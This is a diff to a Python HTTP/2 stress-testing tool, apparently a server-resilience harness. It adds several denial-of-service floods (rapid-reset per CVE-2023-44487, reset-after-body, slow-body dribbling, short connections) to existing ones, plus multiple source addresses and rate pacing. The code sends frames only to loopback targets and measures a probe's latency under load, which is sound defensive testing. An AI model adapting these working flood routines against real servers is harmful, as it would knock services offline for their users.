@@ -9,11 +9,26 @@ connections and seconds. Runs under Debian's /usr/bin/python3 (python3-h2).
 Attacks (each connection in a process of its own, reading and discarding
 whatever the server sends, noting a GOAWAY; a connection the server closes
 is replaced by a new one until the time is up, as an attacker would):
-  rapid-reset   HEADERS then RST_STREAM(CANCEL) on a new stream, over and over
-                (CVE-2023-44487)
-  ping          PING frames, as fast as the socket takes them
-  settings      empty SETTINGS frames, each of which the server must ACK
-  none          no flood: the probe alone, for a baseline
+  rapid-reset       HEADERS then RST_STREAM(CANCEL) on a new stream, over and
+                    over (CVE-2023-44487)
+  rapid-reset-data  the same with a 5-byte DATA frame (a gRPC message prefix)
+                    between the HEADERS and the RST_STREAM
+  reset-after-body  --batch streams of HEADERS + a whole SayHello request
+                    (END_STREAM), then, --reset-after-ms later, RST_STREAM on
+                    each; over and over
+  short-connections a new connection for every --streams-per-connection
+                    streams (HEADERS + a whole request each), then closed
+  slow-body         --streams-per-connection streams per connection, each
+                    sending its body 1 byte per --dribble-ms, never finishing
+  ping              PING frames, as fast as the socket takes them
+  settings          empty SETTINGS frames, each of which the server must ACK
+  none              no flood: the probe alone, for a baseline
+
+Sources: --source (one address) or --sources (a range such as
+127.0.0.10-127.0.0.25, a comma-separated list, or a count N meaning
+127.0.0.10 upward); the --connections are spread over them in turn.
+--rate paces each connection to that many streams a second (0: as fast as
+the socket takes them).
 
 The probe (its own process, its own connection) calls helloworld.Greeter/SayHello
 at --probe-rate calls/s, open loop, each with a --probe-deadline, from
@@ -53,6 +68,14 @@ PROBE_PATH = "/helloworld.Greeter/SayHello"
 PROBE_MESSAGE = b"\x00" + struct.pack(">I", 7) + b"\x0a\x05probe"
 MAX_SECONDS = 30
 MAX_CONNECTIONS = 64
+MAX_SOURCES = 64
+# The 5-byte prefix of a gRPC message that declares 7 bytes: a DATA frame that
+# starts a body without completing it.
+PREFIX_ONLY = PROBE_MESSAGE[:5]
+# A slow body: the prefix of a 1 MiB message, then its bytes, one per frame.
+SLOW_PREFIX = b"\x00" + struct.pack(">I", 1 << 20)
+ATTACKS = ["rapid-reset", "rapid-reset-data", "reset-after-body", "short-connections", "slow-body", "ping",
+           "settings", "none"]
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -74,6 +97,30 @@ def loopback(host: str) -> None:
     addr = ipaddress.ip_address(socket.gethostbyname(host))
     if not addr.is_loopback:
         raise SystemExit(f"h2flood: {host} is not a loopback address; this tool only targets this machine")
+
+
+def parse_sources(spec: str) -> list[str]:
+    """'127.0.0.10-127.0.0.25', 'a,b,c', or a count N (127.0.0.10 upward); loopback only."""
+    spec = spec.strip()
+    if spec.isdigit():
+        count = int(spec)
+        if not 0 < count <= MAX_SOURCES:
+            raise ValueError(f"a count of sources must be 1..{MAX_SOURCES}")
+        first = ipaddress.ip_address("127.0.0.10")
+        addrs = [first + i for i in range(count)]
+    elif "-" in spec:
+        lo, hi = (ipaddress.ip_address(part.strip()) for part in spec.split("-", 1))
+        if int(hi) < int(lo) or int(hi) - int(lo) >= MAX_SOURCES:
+            raise ValueError(f"a range of sources must be ascending and at most {MAX_SOURCES} long")
+        addrs = [lo + i for i in range(int(hi) - int(lo) + 1)]
+    else:
+        addrs = [ipaddress.ip_address(part.strip()) for part in spec.split(",") if part.strip()]
+    if not addrs or len(addrs) > MAX_SOURCES:
+        raise ValueError(f"1..{MAX_SOURCES} sources")
+    for addr in addrs:
+        if not addr.is_loopback:
+            raise ValueError(f"{addr} is not a loopback address")
+    return [str(a) for a in addrs]
 
 
 def split_target(target: str) -> tuple[str, int]:
@@ -111,9 +158,46 @@ def drain(sock: socket.socket, seen: dict) -> None:
         seen["closed_by_server"] = True
 
 
-def flood_connection(attack: str, host: str, port: int, source: str, seconds: float, out: mp.Queue) -> None:
+class Pacer:
+    """Paces a connection to `rate` streams a second (0: no pacing): how many
+    streams the next write may carry, after waiting for their time."""
+
+    def __init__(self, rate: float, batch: int):
+        self.rate, self.batch = rate, batch
+        self.next_at = time.monotonic()
+
+    def take(self, deadline: float) -> int:
+        if self.rate <= 0:
+            return self.batch
+        # Writes of about 10 ms' worth, so a paced flood is smooth, not bursts.
+        n = max(1, min(self.batch, int(self.rate / 100)))
+        wait = self.next_at - time.monotonic()
+        if wait > 0:
+            time.sleep(min(wait, max(0.0, deadline - time.monotonic())))  # pacing, bounded by the deadline
+        self.next_at = max(self.next_at, time.monotonic() - 0.1) + n / self.rate
+        return n
+
+
+def open_connection(host: str, port: int, source: str, seen: dict) -> socket.socket | None:
+    try:
+        sock = socket.create_connection((host, port), timeout=5, source_address=(source, 0))
+    except OSError as e:
+        seen["connect_errors"] = seen.get("connect_errors", 0) + 1
+        seen["last_connect_error"] = str(e)
+        return None
+    seen["connections"] += 1
+    # A server that stops reading stalls a write; after a second of that
+    # the connection is dropped (half a frame may have gone) for a new one.
+    sock.settimeout(1)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return sock
+
+
+def flood_connection(attack: str, host: str, port: int, source: str, seconds: float, opts: dict,
+                     out: mp.Queue) -> None:
     """Floods one connection at a time for `seconds`; when the server closes
-    it, opens the next one, as an attacker would."""
+    it (or, for short-connections, after a few streams), opens the next one,
+    as an attacker would."""
     seen = {"frames_sent": 0, "streams_opened": 0, "connections": 0, "bytes_received": 0,
             "closed_by_server": False}
     # The attacker's CPU is not the server's: on this one machine the flood
@@ -121,45 +205,79 @@ def flood_connection(attack: str, host: str, port: int, source: str, seconds: fl
     # resistance, not a fight for the same cores.
     os.nice(19)
     deadline = time.monotonic() + seconds
-    block = header_block(f"{host}:{port}", PROBE_PATH)
-    batch = 100
+    block = header_block(f"{host}:{port}", opts["path"])
+    batch = opts["batch"]
+    pacer = Pacer(opts["rate"], batch)
+    per_connection = opts["streams_per_connection"]
+    rst = struct.pack(">I", CANCEL)
     while time.monotonic() < deadline:
-        try:
-            sock = socket.create_connection((host, port), timeout=5, source_address=(source, 0))
-        except OSError as e:
-            seen["connect_errors"] = seen.get("connect_errors", 0) + 1
-            seen["last_connect_error"] = str(e)
+        sock = open_connection(host, port, source, seen)
+        if sock is None:
             time.sleep(0.01)  # refused: the next attempt, bounded by the deadline
             continue
-        seen["connections"] += 1
-        # A server that stops reading stalls a write; after a second of that
-        # the connection is dropped (half a frame may have gone) for a new one.
-        sock.settimeout(1)
-        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         conn_seen = {"bytes_received": 0, "closed_by_server": False}
         reader = threading.Thread(target=drain, args=(sock, conn_seen), daemon=True)
         reader.start()
         stream = 1
         try:
             sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
-            while time.monotonic() < deadline and not conn_seen["closed_by_server"]:
-                if attack == "rapid-reset":
+            if attack == "slow-body":
+                streams = list(range(1, 2 * per_connection, 2))
+                stream = streams[-1] + 2
+                sock.sendall(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams))
+                seen["frames_sent"] += len(streams)
+                sent = 0
+                body = SLOW_PREFIX + b"x" * (1 << 20)
+                while time.monotonic() < deadline and not conn_seen["closed_by_server"] and sent < len(body):
+                    sock.sendall(b"".join(frame(DATA, 0, s, body[sent:sent + 1]) for s in streams))
+                    seen["frames_sent"] += len(streams)
+                    sent += 1
+                    time.sleep(min(opts["dribble_ms"] / 1000, max(0.0, deadline - time.monotonic())))  # the dribble
+            while attack != "slow-body" and time.monotonic() < deadline and not conn_seen["closed_by_server"]:
+                if attack in ("rapid-reset", "rapid-reset-data"):
                     chunk = []
-                    for _ in range(batch):
+                    for _ in range(pacer.take(deadline)):
                         chunk.append(frame(HEADERS, END_HEADERS, stream, block))
-                        chunk.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+                        if attack == "rapid-reset-data":
+                            chunk.append(frame(DATA, 0, stream, PREFIX_ONLY))
+                        chunk.append(frame(RST_STREAM, 0, stream, rst))
                         stream += 2
-                    if stream > 0x7FFFFFFF - 2 * batch:
-                        break
                     payload = b"".join(chunk)
+                    count = len(chunk)
+                elif attack == "reset-after-body":
+                    streams = list(range(stream, stream + 2 * pacer.take(deadline), 2))
+                    stream = streams[-1] + 2
+                    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, s, block)
+                                          + frame(DATA, END_STREAM, s, PROBE_MESSAGE) for s in streams))
+                    seen["frames_sent"] += 2 * len(streams)
+                    time.sleep(opts["reset_after_ms"] / 1000)  # the delay this attack is about
+                    payload = b"".join(frame(RST_STREAM, 0, s, rst) for s in streams)
+                    count = len(streams)
+                elif attack == "short-connections":
+                    n = 0
+                    chunk = []
+                    while n < per_connection:
+                        take = pacer.take(deadline) if opts["rate"] > 0 else per_connection
+                        for _ in range(min(take, per_connection - n)):
+                            chunk.append(frame(HEADERS, END_HEADERS, stream, block))
+                            chunk.append(frame(DATA, END_STREAM, stream, PROBE_MESSAGE))
+                            stream += 2
+                            n += 1
+                    sock.sendall(b"".join(chunk))
+                    seen["frames_sent"] += len(chunk)
+                    break  # closed below, with its streams still open
                 elif attack == "ping":
                     payload = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(batch))
+                    count = batch
                 elif attack == "settings":
                     payload = frame(SETTINGS, 0, 0) * batch
+                    count = batch
                 else:
                     raise ValueError(attack)
+                if stream > 0x7FFFFFFF - 4 * batch:
+                    break
                 sock.sendall(payload)
-                seen["frames_sent"] += batch
+                seen["frames_sent"] += count
         except socket.timeout:
             seen["stalled"] = seen.get("stalled", 0) + 1
         except OSError:
@@ -376,11 +494,22 @@ def main() -> int:
     ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     ap.add_argument("--target", required=True, help="host:port the flood goes to (loopback only)")
     ap.add_argument("--probe-target", help="host:port the probe calls (default: --target)")
-    ap.add_argument("--attack", choices=["rapid-reset", "ping", "settings", "none"], default="rapid-reset")
-    ap.add_argument("--connections", type=int, default=4)
+    ap.add_argument("--attack", choices=ATTACKS, default="rapid-reset")
+    ap.add_argument("--connections", type=int, default=4,
+                    help="flood connections at once (each a process), spread over the sources")
     ap.add_argument("--source", default="127.0.0.2",
                     help="loopback address the flood comes from (the probe comes from 127.0.0.1), "
                          "as an attacker's address differs from its victims'")
+    ap.add_argument("--sources", help="several source addresses instead of --source: A-B, a,b,c, "
+                                      "or a count N (127.0.0.10 upward)")
+    ap.add_argument("--rate", type=float, default=0, help="streams per second per connection (0: unpaced)")
+    ap.add_argument("--batch", type=int, help="streams per write (default 100; reset-after-body 50)")
+    ap.add_argument("--reset-after-ms", type=float, default=5, help="reset-after-body: ms from body to reset")
+    ap.add_argument("--streams-per-connection", type=int,
+                    help="short-connections: streams before the close (default 5); slow-body: streams held "
+                         "open (default 90)")
+    ap.add_argument("--path", default=PROBE_PATH, help="the method the flood's streams call")
+    ap.add_argument("--dribble-ms", type=float, default=100, help="slow-body: ms between a stream's bytes")
     ap.add_argument("--seconds", type=float, default=5)
     ap.add_argument("--warmup", type=float, default=1, help="probe-only seconds before the flood")
     ap.add_argument("--after", type=float, default=5, help="probe-only seconds after the flood")
@@ -393,9 +522,25 @@ def main() -> int:
         ap.error(f"--connections must be 1..{MAX_CONNECTIONS}")
     if not 0 <= args.seconds <= MAX_SECONDS or not 0 <= args.after <= MAX_SECONDS:
         ap.error(f"--seconds and --after must be 0..{MAX_SECONDS}")
+    if not 0 <= args.rate <= 1_000_000 or not 0 <= args.reset_after_ms <= 10_000 or not 1 <= args.dribble_ms <= 10_000:
+        ap.error("--rate 0..1e6, --reset-after-ms 0..10000, --dribble-ms 1..10000")
+    batch = args.batch or (50 if args.attack == "reset-after-body" else 100)
+    per_connection = args.streams_per_connection or (90 if args.attack == "slow-body" else 5)
+    if not 1 <= batch <= 1000 or not 1 <= per_connection <= 1000:
+        ap.error("--batch and --streams-per-connection must be 1..1000")
+    if not args.path.startswith("/") or not args.path.isprintable() or len(args.path) > 200:
+        ap.error("--path must be a printable /service/method")
     host, port = split_target(args.target)
     probe_host, probe_port = split_target(args.probe_target or args.target)
-    loopback(args.source)
+    try:
+        sources = parse_sources(args.sources) if args.sources else [args.source]
+    except ValueError as e:
+        ap.error(f"--sources: {e}")
+    for source in sources:
+        loopback(source)
+    opts = {"rate": args.rate, "batch": batch, "reset_after_ms": args.reset_after_ms,
+            "streams_per_connection": per_connection, "dribble_ms": args.dribble_ms,
+            "path": args.path}
 
     ctx = mp.get_context("fork")
     out: mp.Queue = ctx.Queue()
@@ -422,8 +567,9 @@ def main() -> int:
         time.sleep(0.1)
     flooders = []
     if args.attack != "none":
-        flooders = [ctx.Process(target=flood_connection, args=(args.attack, host, port, args.source, args.seconds, out), daemon=True)
-                    for _ in range(args.connections)]
+        flooders = [ctx.Process(target=flood_connection, daemon=True,
+                                args=(args.attack, host, port, sources[i % len(sources)], args.seconds, opts, out))
+                    for i in range(args.connections)]
         for p in flooders:
             p.start()
     while time.monotonic() < until:
@@ -439,10 +585,12 @@ def main() -> int:
     calls = [(c[0] - t0, c[1], c[2]) for c in calls]
     report = {
         "attack": args.attack, "target": args.target, "connections": args.connections, "seconds": args.seconds,
-        "probe_rate": args.probe_rate,
+        "probe_rate": args.probe_rate, "sources": sources, "rate_per_connection": args.rate, "options": opts,
         "flood": {
             "frames_sent": sum(f.get("frames_sent", 0) for f in flood),
             "streams_opened": sum(f.get("streams_opened", 0) for f in flood),
+            "streams_per_s": round(sum(f.get("streams_opened", 0) for f in flood) / args.seconds)
+            if args.seconds else 0,
             "connections_opened": sum(f.get("connections", 0) for f in flood),
             "connections_closed_by_server": sum(f.get("closed_connections", 0) for f in flood),
             "goaway": sorted({json.dumps(f["goaway"], sort_keys=True) for f in flood if "goaway" in f}),
